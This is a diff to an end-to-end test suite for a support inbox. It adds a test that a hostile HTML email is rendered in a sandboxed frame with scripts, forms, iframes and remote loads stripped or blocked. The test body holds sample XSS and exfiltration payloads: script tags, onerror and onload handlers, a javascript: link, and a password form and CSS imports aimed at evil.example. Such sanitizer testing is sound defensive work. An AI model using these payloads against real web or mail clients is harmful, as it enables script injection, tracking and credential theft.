@@ -162,13 +162,11 @@ test('a file is attached by the button and can be removed', async ({ desk }) => 
   const { id } = await new_case(desk);
   await desk.goto(path_of(id));
   await expect(composer(desk)).toBeVisible();
-  await desk
-    .locator('input[type=file]')
-    .setInputFiles({
-      name: 'informe médico.pdf',
-      mimeType: 'application/pdf',
-      buffer: Buffer.from('%PDF-1.4\n%%EOF\n'),
-    });
+  await desk.locator('input[type=file]').setInputFiles({
+    name: 'informe médico.pdf',
+    mimeType: 'application/pdf',
+    buffer: Buffer.from('%PDF-1.4\n%%EOF\n'),
+  });
   const files = desk.getByRole('list', { name: en('inbox:attachments') });
   await expect(files.getByText('informe médico.pdf')).toBeVisible();
   await expect
@@ -279,5 +277,51 @@ test('a lost connection is said, what was typed stays, and it comes back by itse
   await expect
     .poll(async () => (await send<{ text: string }>(page, 'GET', `/api/cases/${id}/draft`)).text, { timeout: 20_000 })
     .toBe('Typed in a tunnel.');
+  await context.close();
+});
+
+test('HTML of a stranger runs nothing, loads nothing, and sends no sign of having been read', async ({ browser }) => {
+  const context = await director(browser);
+  const page = await context.newPage();
+  const { id } = await new_case(page);
+  const note = await send<{ id: number }>(page, 'POST', `/api/cases/${id}/notes`, { text: 'stands for a mail' });
+  // The mail is put in the way of the answers: this is about what the page does with hostile HTML.
+  const asked: string[] = [];
+  await context.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => {
+    asked.push(route.request().url());
+    return route.abort();
+  });
+  await page.route(`**/api/cases/${id}/messages*`, async (route) => {
+    const answer = await route.fetch();
+    const list = await answer.json();
+    for (const one of list.items)
+      if (one.id === note.id)
+        Object.assign(one, { kind: 'message', direction: 'in', author_kind: 'person', has_html: true });
+    return route.fulfill({ response: answer, json: list });
+  });
+  await page.route(`**/api/messages/${note.id}/html`, (route) =>
+    route.fulfill({
+      contentType: 'text/html',
+      body: `<p id="top">Dear <b>desk</b></p><script>parent.hacked = 1; document.title = 'hacked'</script><img src="https://tracker.example/read.gif"><img src=x onerror="parent.hacked = 1">
+        <a href="javascript:parent.hacked = 1">press</a><form action="https://evil.example"><input name=password></form><style>@import 'https://evil.example/a.css'; body { background: url(https://evil.example/b.png) }</style>
+        <div style="background: url(https://evil.example/c.png); position: fixed">x</div><iframe src="https://evil.example"></iframe><svg onload="parent.hacked = 1"></svg><meta http-equiv="refresh" content="0; url=https://evil.example"><base href="https://evil.example/">`,
+    }),
+  );
+  await page.goto(path_of(id));
+  await page.getByRole('button', { name: en('inbox:as_html') }).click();
+  const frame = page.locator(`iframe[title="${en('inbox:html_frame')}"]`);
+  await expect(frame.contentFrame().getByText('Dear desk')).toBeVisible();
+  const sandbox = (await frame.getAttribute('sandbox')) ?? 'none';
+  expect(sandbox).not.toContain('allow-scripts');
+  expect(sandbox).not.toContain('allow-same-origin');
+  await expect(
+    frame.contentFrame().locator('script, form, input, iframe, svg, style:not(head style), meta[http-equiv=refresh]'),
+  ).toHaveCount(0);
+  expect(await frame.contentFrame().locator('a').getAttribute('href')).toBeNull();
+  await expect(page.getByText(/not loaded/)).toBeVisible();
+  expect(asked).toEqual([]);
+  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+  await page.getByRole('button', { name: en('inbox:load_images') }).click();
+  await expect.poll(() => asked).toEqual(['https://tracker.example/read.gif']);
   await context.close();
 });
